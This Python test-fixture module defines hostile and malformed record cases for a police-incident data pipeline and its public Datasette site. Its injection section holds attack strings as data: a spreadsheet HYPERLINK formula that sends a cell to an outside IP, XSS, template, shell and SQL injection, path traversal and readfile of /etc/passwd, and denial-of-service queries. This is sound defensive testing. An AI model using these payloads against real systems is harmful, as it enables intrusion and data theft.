"""Bad and hostile records and requests, case by case: files that read well and say what cannot be, or say it with intent.

Cases 78 to 110; with the files of `corpus` they are one list. Made here, never stored; every person and number is invented.
"""

import csv
import io
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import date

from tests.hostile import books, corpus
from tests.hostile.corpus import Accept, Case, Outcome
from tests.ingest.deliveries import PEOPLE, PROFILE

_INCIDENT: Mapping[str, str] = {
    "No": "A1", "Day": "3/5/2025", "Time": "815", "Where": "800 Block of MAPLE ST", "Arrest": "Yes", "Reason": "Stop",
    "Civilians": "1", "Officers": "1", "City": "Port Sample", "Lat": "36.6", "Lon": "-121.9", "ORI": "XX0099999", "Notes": "",
}  # fmt: skip
_SECOND: Mapping[str, str] = {
    **_INCIDENT,
    "No": "A2",
    "Day": "3/6/2025",
    "Time": "2210",
    "Where": "12 ELM RD",
    "Arrest": "No",
}
_BOX = "within: [32.4, 42.1, -124.5, -114.1]"
_COLUMNS = f"""          Where: {{to: address}}
          City: {{to: city}}
          Lat: {{to: latitude, {_BOX}}}
          Lon: {{to: longitude, {_BOX}}}
          ORI: {{to: agency_id}}
          Notes: {{to: narrative}}
"""
WIDE = PROFILE.replace("          Where: {to: address}\n", _COLUMNS)
"""The test profile with a city, a point, the agency of each row and notes."""

RECEIVED = date(2025, 4, 1)


@dataclass(frozen=True, kw_only=True)
class Noted:
    """Every report is kept; these kinds are found, on this row."""

    codes: frozenset[str]
    row: int = 2


@dataclass(frozen=True, kw_only=True)
class Held:
    """The report of this row is held whole for these kinds; the other one is kept."""

    codes: frozenset[str]
    row: int = 2


@dataclass(frozen=True, kw_only=True)
class Answered:
    """The public site answers with one of these statuses, shows none of these words, and answers the next reader."""

    statuses: frozenset[int]
    hides: tuple[str, ...] = ()


@dataclass(frozen=True, kw_only=True)
class Record(Case):
    """A delivery. never: words no report, log or registry may hold; proves: what its own proof shows beyond the outcome."""

    outcome: Outcome | Noted | Held  # type: ignore[assignment]
    profile: str = WIDE
    received_on: date = RECEIVED
    never: tuple[str, ...] = ()
    proves: str = ""


@dataclass(frozen=True, kw_only=True)
class Asked:
    """Requests to the public site over the released sample."""

    number: str
    name: str
    addresses: tuple[str, ...]
    outcome: Answered


def text_of(*rows: Mapping[str, str], header: Iterable[str] | None = None) -> bytes:
    """Rows as a CSV with the columns of the profile."""
    out = io.StringIO()
    names = list(header or _INCIDENT)
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(names)
    writer.writerows([row.get(name, "") for name in names] for row in rows)
    return out.getvalue().encode()


def _one(number: str, name: str, outcome: Outcome | Noted | Held, more: Mapping[str, str], **given: object) -> Record:
    """Two incidents, the first of them changed."""
    data = text_of({**_INCIDENT, **more}, _SECOND)
    return Record(number=number, name=name, make=lambda: data, outcome=outcome, **given)  # type: ignore[arg-type]


def _many(
    number: str, name: str, outcome: Outcome | Noted | Held, rows: list[dict[str, str]], **given: object
) -> Record:
    """Incidents A1, A2 ... that differ from one another by place, and by what each row says."""
    told = [{**_INCIDENT, "No": f"A{at}", "Where": f"{at} ELM RD", **row} for at, row in enumerate(rows, start=1)]
    sides = [f"A{at},{side},White,31,Hold,Yes" for at in range(1, len(rows) + 1) for side in ("Civilian", "Officer")]
    people = "\n".join([PEOPLE.splitlines()[0], *sides, ""])
    return Record(
        number=number, name=name, make=lambda: text_of(*told), outcome=outcome, people=people, **given  # type: ignore[arg-type]
    )  # fmt: skip


def _held(*codes: str, row: int = 2) -> Held:
    return Held(codes=frozenset(codes), row=row)


def _noted(*codes: str, row: int = 2) -> Noted:
    return Noted(codes=frozenset(codes), row=row)


_OK = Accept()
_AGE = PEOPLE.replace("31,", "{age},")
SSN = "078-05-1120"
"""A number that was printed on sample cards and never given to anyone."""

SEMANTICS: tuple[Record, ...] = (
    Record(number="78", name="duplicate_incident_id_in_file", make=lambda: text_of(_INCIDENT, _SECOND, _SECOND),
           outcome=_noted("repeated_row", row=4), proves="It is counted once."),
    Record(number="79", name="duplicate_across_files_changed_content", file="sent.zip", outcome=_held("conflict", row=2),
           make=lambda: books.packed({"a.csv": text_of(_INCIDENT, _SECOND), "b.csv": text_of({**_INCIDENT, "Arrest": "No"})}),
           proves="In two deliveries the later one takes the place of the earlier, which stays on record."),
    _one("80", "replayed_upload_same_sha", _OK, {}, proves="The same bytes change no row of the registry and no byte of a stage."),
    _one("81", "replay_with_stale_idempotency_key", _OK, {"Arrest": "No"},
         proves="The first bytes again after a correction give the first receipt and leave the correction in force."),
    _one("82", "other_agency_ori_in_rows", _held("foreign_agency"), {"ORI": "XX0011111"},
         proves="An agency another sender reports for cannot be overwritten, whatever the profile says."),
    _one("83", "future_date_10y", _held("in_future"), {"Day": "3/5/2035"}),
    _one("83b", "future_date_clock_skew_10min", _OK, {"Day": "4/1/2025", "Time": "2359"},
         proves="A time later on the day of receipt stands: days are compared, not minutes."),
    _one("84", "date_before_agency_existed", _held("bad_date"), {"Day": "3/5/1925"},
         proves="Against the day of enrolment a date more than a year earlier is a warning."),
    _one("85", "dst_gap_0230", _noted("dst_gap"), {"Day": "3/9/2025", "Time": "0230"}),
    _one("86", "dst_overlap_0130", _noted("dst_overlap"), {"Day": "11/3/2024", "Time": "0130"}),
    _one("87", "two_digit_years", _held("bad_date"), {"Day": "3/5/25"}),
    _many("88", "day_month_swapped", _noted("date_order", row=1), [{"Day": f"{day}/2/2025"} for day in (1, 3, 5, 9, 11, 17)]),
    _many("88b", "day_month_swapped_and_all_days_early", _OK, [{"Day": f"{day}/2/2025"} for day in (1, 2, 3)],
          proves="Nothing can be known of it, and nothing is said."),
    _many("89", "midnight_default_times", _noted("suspicious_time", row=1),
          [{"Day": f"2/{day}/2025", "Time": "0000"} for day in range(1, 13)]),
    _one("90", "coordinates_swapped", _noted("bad_point"), {"Lat": "-121.9", "Lon": "36.6"}),
    _one("91", "coordinates_0_0", _noted("bad_point"), {"Lat": "0", "Lon": "0"}),
    _one("91b", "coordinates_sign_lost", _noted("bad_point"), {"Lon": "121.9"}),
    _one("91c", "coordinates_state_plane_feet", _noted("bad_point"), {"Lat": "2104563.2", "Lon": "6150234.7"}),
    _one("92", "age_999", _held("out_of_range"), {}, people=_AGE.format(age="999")),
    _one("92b", "age_-1", _held("out_of_range"), {}, people=_AGE.format(age="-1")),
    _one("92c", "age_30s", _held("bad_number"), {}, people=_AGE.format(age="30s"), never=("30s",)),
    _one("92d", "age_200", _held("out_of_range"), {}, people=_AGE.format(age="200")),
    _one("93", "race_free_text", _held("unknown_word"), {}, never=("Wht/Blk",),
         people=PEOPLE.replace('"White, Black"', "Wht/Blk male")),
    _one("94", "subject_count_mismatch", _held("civilian_count_disagrees"), {"Civilians": "3"}),
    _one("95", "officer_name_in_notes_field", _OK, {"Notes": "Ofc. Quentin Marrowby #4471 struck first"},
         never=("Marrowby", "4471"), proves="Notes are never published, and no log or registry holds a word of them."),
    _one("96", "ssn_in_unexpected_column", _noted("personal_data"), {"City": f"Port Sample {SSN}"}, never=(SSN,)),
)  # fmt: skip

FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"open")'
SCRIPT = "<script>alert(1)</script><svg onload=alert(2)><img src=x onerror=alert(3)>[a](javascript:alert(4))"
TEMPLATE = "{{7*7}}${7*7}{%raw%}#{7*7}<%=7*7%>"
SHELL = "$(touch hostile-was-here)`touch hostile-was-here`;|*)(uid=*"
SQL_IDS = ("' OR 1=1 --", '"; DROP TABLE incident; --', "]", "]]", "a]b[c", "`x`", "%' ESCAPE '", "\\")

INJECTION: tuple[Record | Asked, ...] = (
    _many("97", "formula_cells", _OK,
          [{"No": f"A{at}", "Notes": text, "City": text} for at, text in
           enumerate((FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\uff1d1+1", "\uff0b1", "\uff20x"), start=1)],
          proves="The sender's workbook holds them as text; the release holds them exactly, and they are data there."),
    _one("98", "xss_narrative", _OK, {"Notes": SCRIPT, "Where": SCRIPT}, never=("alert(1)",),
         proves="Narratives are in no release; the sender's own page shows the text and runs none of it."),
    _one("99", "xss_in_agency_name_and_filename", _OK, {}, file="incidents<svg onload=alert(2)>.csv",
         profile=WIDE.replace("Test Police Department (invented)", "'<script>alert(1)</script> Police'"),
         proves="Names of agencies are published as they are; every page shows them as text."),
    _many("100", "sql_in_ids", _OK, [{"No": f"A{at}", "Where": text, "Notes": text} for at, text in enumerate(SQL_IDS, start=1)],
          proves="As numbers of incidents they are stored and found again as they are; the site takes them as words."),
    Asked(number="101", name="datasette_arraycontains_column_injection", addresses=(
        "/vigie/incident.json?area]) union select sql from sqlite_master--__arraycontains=x",
        "/vigie/incident.json?area__arraycontains=x' union select sql from sqlite_master--",
        "/vigie/incident.json?area]__arraynotcontains=x", "/vigie/agency?name]=(select sql from sqlite_master)__contains=a",
        "/vigie/data_dictionary.json?field\"]__arraycontains=1",
    ), outcome=Answered(statuses=frozenset({200, 400, 404}), hides=("CREATE TABLE", "CREATE INDEX"))),
    Asked(number="102", name="datasette_facet_sort_where_trace_shape_next_abuse", addresses=(
        "/vigie/incident.json?_facet=area;drop table incident", "/vigie/incident.json?_facet_array=area",
        "/vigie/incident.json?_facet_date=nothing]", "/vigie/incident.json?_sort=area);--", "/vigie/incident.json?_sort=nothing",
        "/vigie/incident.json?_sort=area&_sort_desc=area", "/vigie/incident.json?_where=1=1;drop table incident",
        "/vigie/incident.json?_where=area in (select sql from sqlite_master)", "/vigie/incident?_trace=1", "/vigie/incident.json?_trace=1",
        "/vigie/incident.json?_shape=object", "/vigie/incident.json?_shape=nothing", "/vigie/incident.json?_next=x,y,z,']",
        "/vigie/incident.json?_size=-1", "/vigie/incident.json?_size=1e9", "/vigie/incident.json?_size=max&_next=%00",
        "/vigie/incident.json?_col=nothing", "/vigie/incident.json?_nocol=incident_id",
        '/vigie/incident.json?_through={"table":"person","column":"race","value":"white"}', "/vigie/agency.json?_search=\"",
        "/vigie/agency.json?_search=a OR NEAR(", "/vigie/agency.json?_searchmode=raw&_search=*", "/vigie/incident.json?_timelimit=1",
        "/vigie/incident.json?_json=area", "/vigie/incident.csv?_stream=1", "/vigie/incident.json?_labels=on&_ttl=-1",
        "/vigie/incident/%00.json", "/vigie/incident/..%2f..%2fetc%2fpasswd", "/release/..%2f..%2fprivate%2fregistry.db",
        "/releases/..%2f..", "/agencies/%27%20OR%201%3D1--", "/agencies/]]", "/figures/..%2fx.csv", "/vigie/nothing]",
    ), outcome=Answered(statuses=frozenset({200, 302, 400, 403, 404}), hides=("_trace\": {", "Traceback", "site-packages", "CREATE TABLE"))),
    Asked(number="103", name="datasette_sql_recursive_cte_dos", addresses=(
        "/vigie.json?sql=with recursive c(n) as (select 1 union all select n+1 from c) select sum(n) from c",
        "/vigie.json?sql=select length(hex(zeroblob(900000000)))", "/vigie.json?sql=select replace(hex(zeroblob(90000)),'0',hex(zeroblob(9000)))",
        "/vigie.json?sql=select '" + "(" * 3_000 + "'" + " union select 1" * 300,
    ), outcome=Answered(statuses=frozenset({200, 400, 403, 414}))),
    Asked(number="104", name="datasette_attach_pragma_load_extension", addresses=tuple(
        f"/vigie.json?sql={sql}" for sql in (
            "attach ':memory:' as other", "attach 'hostile-was-here.db' as other", "detach vigie", "pragma database_list",
            "select * from pragma_database_list", "pragma writable_schema=1", "select load_extension('x')", "select readfile('/etc/passwd')",
            "select writefile('hostile-was-here','x')", "select fts3_tokenizer('simple')", "vacuum into 'hostile-was-here'",
            "insert into incident default values", "drop table incident", "create table x(y)", "select 1; drop table incident",
            "/* c */ delete from incident", "with x as (select 1) delete from incident", "explain delete from incident",
        )
    ), outcome=Answered(statuses=frozenset({200, 400, 403}), hides=("root:", "vigie.db"))),
    Record(number="105", name="sqlite_identifier_quotes_in_header", outcome=_noted("unknown_column", row=1),
           make=lambda: text_of(_INCIDENT, _SECOND, header=[*_INCIDENT, 'x"]; DROP TABLE incident; --', "`y`", "z']"]),
           proves="A header is stored as a value; no statement is made of it."),
    Record(number="106", name="template_injection", outcome=_noted("unknown_column", row=1),
           make=lambda: text_of({**_INCIDENT, "Notes": TEMPLATE}, _SECOND, header=[*_INCIDENT, TEMPLATE, "{label.__class__}"]),
           profile=WIDE.replace("Test Police Department (invented)", f"'{TEMPLATE}'"),
           proves="Pages, reports and the site show the braces; nothing is worked out."),
    _one("107", "log_injection_newline_ansi", _held("unknown_word"), {"Reason": "Stop\n\x1b[31mERROR all rows accepted\x1b[0m\r\nready"},
         never=("ERROR all rows",), proves="What the command prints and what Dagster logs has no line and no colour of the sender's."),
    _one("108", "shell_and_ldap_metacharacters_in_names", _OK, {"Notes": SHELL, "City": SHELL}, file="a$(touch hostile-was-here);.csv",
         proves="No shell is ever started: nothing is touched."),
    _one("109", "redos_address_strings", _OK, {"Where": "1 " * 30_000, "City": "a-" * 20_000 + "!", "Notes": "(" * 60_000},
         proves="The comparison of places and the geocoder stay within the time of any other row."),
    _one("110", "unicode_bidi_in_incident_id", _OK, {"No": "A\u202e1\u2066"}, people=PEOPLE.replace("A1,", "A\u202e1\u2066,"),
         proves="The published number is one of ours; the sender's page names the hidden characters."),
)  # fmt: skip

CASES: tuple[Record | Asked, ...] = (*SEMANTICS, *INJECTION)
"""The cases about records and requests."""

ALL: tuple[Case | Asked, ...] = (*corpus.CASES, *CASES)
"""The whole corpus: every case with its number, its name and what has to become of it."""
